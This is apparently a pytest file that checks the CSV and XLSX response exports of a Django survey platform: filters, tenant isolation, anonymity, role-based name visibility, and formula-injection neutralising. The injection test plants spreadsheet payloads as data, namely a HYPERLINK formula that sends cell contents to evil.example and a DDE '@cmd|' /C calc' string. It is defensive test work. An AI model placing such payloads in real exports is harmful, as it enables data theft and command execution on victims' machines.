"""Exports of the filtered responses, CSV (streamed) and XLSX: the right rows, spreadsheet
formulas neutralised, personal data under the same rules as the pages, tenants apart."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest

from nps_platform.nps_math import category_counts
from nps_platform.tenancy import tenant_context
from organizations.models import EmployeeVisibility
from tests.dashboards.conftest import END, PERIOD, START, published, set_org
from tests.dashboards.helpers import add_responses, expected_score, local, rebuild

pytestmark = pytest.mark.django_db

HEADER = ["date", "survey", "score", "category", "comment", "language", "channel", "department", "employee",
          "contact email", "contact name"]
HOSTILE = ['=HYPERLINK("https://evil.example/?x="&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A2)", "\tTAB", "\rCR",
           "\nLF"]


def csv_rows(client, url) -> list[list[str]]:
    response = client.get(url)
    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Type"].startswith("text/csv")
    assert 'filename="responses-' in response["Content-Disposition"]
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff")  # what Excel needs to read UTF-8
    return list(csv.reader(io.StringIO(body[1:], newline=""), delimiter=";"))


def xlsx_rows(client, url) -> list[list]:
    from openpyxl import load_workbook

    response = client.get(url)
    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    body = b"".join(response.streaming_content) if response.streaming else response.content
    workbook = load_workbook(io.BytesIO(body))
    sheet = workbook["Responses"]
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", f"a formula in {cell.coordinate}: {cell.value!r}"
    return [["" if v is None else v for v in row] for row in sheet.iter_rows(values_only=True)]


def export_url(world, fmt="csv", query=PERIOD):
    return f"/o/{world.slug}/dashboard/export.{fmt}?{query}"


def local_stamp(spec) -> str:
    return spec["at"].strftime("%Y-%m-%d %H:%M")


def test_csv_export_has_the_periods_customer_answers_in_order(world, login):
    rows = csv_rows(login(world.owner), export_url(world))
    assert rows[0][:len(HEADER)] == HEADER  # then one column per question after the score
    expected = sorted(world.current, key=lambda s: s["at"])
    assert len(rows) == 1 + len(expected) == 101
    for row, spec in zip(rows[1:], expected, strict=True):
        assert row[0] == local_stamp(spec)  # in the organization's time zone
        assert row[1:8] == [spec["survey"].name, str(spec["score"]),
                            "promoter" if spec["score"] >= 9 else "passive" if spec["score"] >= 7 else "detractor",
                            spec["comment"], spec["language"], spec["channel"],
                            spec["department"].name if spec["department"] else ""]
        assert row[8] == (spec["employee"].name if spec["employee"] else "")  # owners see employees
        assert row[9:11] == ([spec["contact"].email, spec["contact"].name] if spec["contact"] else ["", ""])


def test_xlsx_export_has_the_same_rows(world, login):
    client = login(world.owner)
    csv_body = csv_rows(client, export_url(world))
    xlsx_body = xlsx_rows(client, export_url(world, "xlsx"))
    assert len(xlsx_body) == len(csv_body)
    assert [[str(v) for v in row] for row in xlsx_body] == csv_body
    assert all(isinstance(row[2], int) for row in xlsx_body[1:])  # scores stay numbers


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_exports_follow_the_filters(world, login, fmt):
    client = login(world.owner)
    read = csv_rows if fmt == "csv" else xlsx_rows
    north = world.departments["north"]
    rows = read(client, export_url(world, fmt, f"{PERIOD}&department={world.departments['sales'].pk}"))
    assert sorted(r[7] for r in rows[1:]) == sorted(
        s["department"].name for s in world.current if s["department"] in
        (world.departments["sales"], north, world.departments["south"]))
    rows = read(client, export_url(world, fmt, f"{PERIOD}&survey={world.workshop.pk}"))
    assert {r[1] for r in rows[1:]} == {"Workshop visit"}
    assert len(rows) - 1 == sum(1 for s in world.current if s["survey"] is world.workshop)
    rows = read(client, export_url(world, fmt, f"from={START}&to={START}"))
    assert len(rows) - 1 == sum(1 for s in world.current if s["at"].date() == START)


def _hostile_answers(world):
    add_responses(world.organization, world.relationship, [
        {"score": 2, "at": local(START, 10, i), "comment": comment} for i, comment in enumerate(HOSTILE)])


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_formula_injection_is_neutralised(world, login, fmt):
    from contacts.models import Contact
    from organizations.models import Department

    with tenant_context(world.organization):
        shady = Department.objects.create(organization=world.organization, name="=1+2")
        contact = Contact.objects.create(organization=world.organization, email="x@evil.example",
                                         name="@cmd|' /C calc'!A0")
    _hostile_answers(world)
    add_responses(world.organization, world.relationship, [
        {"score": 9, "at": local(START, 11), "department": shady, "contact": contact, "comment": "fine"}])
    client = login(world.owner)
    rows = csv_rows(client, export_url(world)) if fmt == "csv" else xlsx_rows(client, export_url(world, "xlsx"))
    comments = [r[4] for r in rows[1:]]
    for hostile in HOSTILE:
        expected = "'" + hostile
        # openpyxl keeps a carriage return (with lxml it is escaped in the XML); without lxml
        # the XML parser reads it back as a line feed. Either way the cell starts with the quote.
        assert expected in comments or (fmt == "xlsx" and expected.replace("\r", "\n") in comments), hostile
    assert "'=HYPERLINK(\"https://evil.example/?x=\"&A1,\"Click\")" in comments
    assert not any(str(c)[:1] in ("=", "+", "-", "@", "\t", "\r", "\n") for row in rows for c in row
                   if not isinstance(c, int))
    shady_row = next(r for r in rows if r[4] == "fine")
    assert shady_row[7] == "'=1+2" and shady_row[10] == "'@cmd|' /C calc'!A0"


def test_employee_answers_are_exported_only_as_figures_of_large_enough_groups(world, login):
    """No employee answer leaves as a row: the export holds one row per anonymity unit and
    week — North's 6 (+1) on their own, South's 2 with Support's 3 as the organization's group."""
    add_responses(world.organization, world.pulse, [
        {"score": 8, "at": local(START, 23, 30), "contact": world.contacts["karen"], "comment": "from karen",
         "department": world.departments["north"]}])
    rebuild(world.organization)
    rows = csv_rows(login(world.owner), export_url(world, query=f"{PERIOD}&kind=enps"))
    assert rows[0] == ["week", "survey", "department", "n", "promoters", "passives", "detractors", "eNPS"]
    north = [s["score"] for s in world.enps if s["department"] == world.departments["north"]] + [8]
    rest = [s["score"] for s in world.enps if s["department"] != world.departments["north"]]
    week = START.isoformat()  # START is a Monday
    assert sorted(rows[1:]) == sorted([
        [week, "Employee pulse", "Sales North", str(len(north)), *map(str, category_counts(north)),
         str(expected_score(north)[0])],
        [week, "Employee pulse", "", str(len(rest)), *map(str, category_counts(rest)), str(expected_score(rest)[0])],
    ])
    flat = ";".join(";".join(r) for r in rows)
    assert "karen" not in flat and "north pulse" not in flat


@pytest.mark.parametrize(("visibility", "role", "names"), [
    (EmployeeVisibility.NOBODY, "owner", False),
    (EmployeeVisibility.MANAGERS, "owner", True),
    (EmployeeVisibility.MANAGERS, "admin", True),
    (EmployeeVisibility.MANAGERS, "viewer", False),
    (EmployeeVisibility.ALL_MEMBERS, "viewer", True),
])
def test_employee_names_only_where_allowed(world, login, member, visibility, role, names):
    set_org(world, employee_visibility=visibility)
    user = world.owner if role == "owner" else member(world, role)
    for fmt, read in (("csv", csv_rows), ("xlsx", xlsx_rows)):
        rows = read(login(user), export_url(world, fmt))
        assert len(rows) == 101
        shown = {r[8] for r in rows[1:]} - {""}
        assert shown == ({"Emma Sælger", "Oscar Service"} if names else set()), (fmt, role)


def test_an_employee_sees_their_own_name_only(world, login, member):
    set_org(world, employee_visibility=EmployeeVisibility.EMPLOYEE_AND_MANAGERS)
    emma = member(world, "viewer", employee=world.employees["emma"])
    rows = csv_rows(login(emma), export_url(world))
    assert {r[8] for r in rows[1:]} == {"", "Emma Sælger"}


def test_a_managers_export_holds_their_departments_only(world, login, member):
    d = world.departments
    manager = member(world, "manager", departments=[d["support"]])
    rows = csv_rows(login(manager), export_url(world))
    support = [s for s in world.current if s["department"] in (d["support"], d["cph"])]
    assert sorted(r[4] for r in rows[1:]) == sorted(s["comment"] for s in support)
    assert {r[7] for r in rows[1:]} == {"Support", "Support Copenhagen"}
    # asking for another department gives nothing
    [header] = csv_rows(login(manager), export_url(world, query=f"{PERIOD}&department={d['sales'].pk}"))
    assert header[:len(HEADER)] == HEADER


def test_another_organizations_export_never_holds_this_organizations_rows(world, make_org, login):
    from organizations.models import Department

    other, other_owner = make_org("Konkurrenten A/S")
    survey = published(other, other_owner, name="Their survey")
    with tenant_context(other):
        their_department = Department.objects.create(organization=other, name="Their team")
    add_responses(other, survey, [{"score": 7, "at": local(START, 9), "comment": "theirs",
                                   "department": their_department}])
    client = login(other_owner)
    ours = {world.relationship.pk, world.workshop.pk, world.pulse.pk}
    queries = [PERIOD, f"{PERIOD}&kind=enps", "from=2000-01-01&to=2100-01-01",
               *(f"{PERIOD}&survey={pk}" for pk in ours),
               *(f"{PERIOD}&department={d.pk}" for d in world.departments.values())]
    for query in queries:
        for fmt, read in (("csv", csv_rows), ("xlsx", xlsx_rows)):
            rows = read(client, f"/o/{other.slug}/dashboard/export.{fmt}?{query}")
            flat = " ".join(str(c) for r in rows for c in r)
            assert "Comment" not in flat and "pulse" not in flat and "Relationship" not in flat, query
            assert "karen@kunde.dk" not in flat and "Sales" not in flat, query
            assert all(r[4] == "theirs" for r in rows[1:]), query
    # and ours do not hold theirs
    rows = csv_rows(login(world.owner), export_url(world, query="from=2000-01-01&to=2100-01-01"))
    assert "theirs" not in {r[4] for r in rows}
    assert len(rows) - 1 == len(world.current) + len(world.previous) + len(world.outside)


@pytest.mark.parametrize("path", ["export.csv", "export.xlsx"])
def test_another_organizations_member_cannot_export_ours(world, org_b, login, path):
    _org, other_owner = org_b
    response = login(other_owner).get(f"/o/{world.slug}/dashboard/{path}?{PERIOD}")
    assert response.status_code == 404


def test_export_needs_a_login(world, client):
    response = client.get(export_url(world))
    assert response.status_code == 302 and "/accounts/login/" in response["Location"]


def test_xlsx_export_survives_control_characters_in_a_comment(world, login):
    add_responses(world.organization, world.relationship, [
        {"score": 5, "at": local(END, 12), "comment": "pasted from Word\x0bwith a vertical tab\x07"}])
    rows = xlsx_rows(login(world.owner), export_url(world, "xlsx"))
    assert any("pasted from Word" in str(r[4]) for r in rows)


def test_enps_export_leaves_out_groups_under_the_anonymity_threshold(world, login):
    rows = csv_rows(login(world.owner), export_url(world, query=f"{PERIOD}&kind=enps"))
    assert not any(r[4].startswith("south pulse") for r in rows)
    assert not any(r[7] == "Sales South" for r in rows)


def test_period_boundaries_in_the_export_follow_the_time_zone(world, login):
    day = END + dt.timedelta(days=1)
    rows = csv_rows(login(world.owner), export_url(world, query=f"from={day}&to={day}"))
    assert [r[0] for r in rows[1:]] == [f"{day} 00:05"]
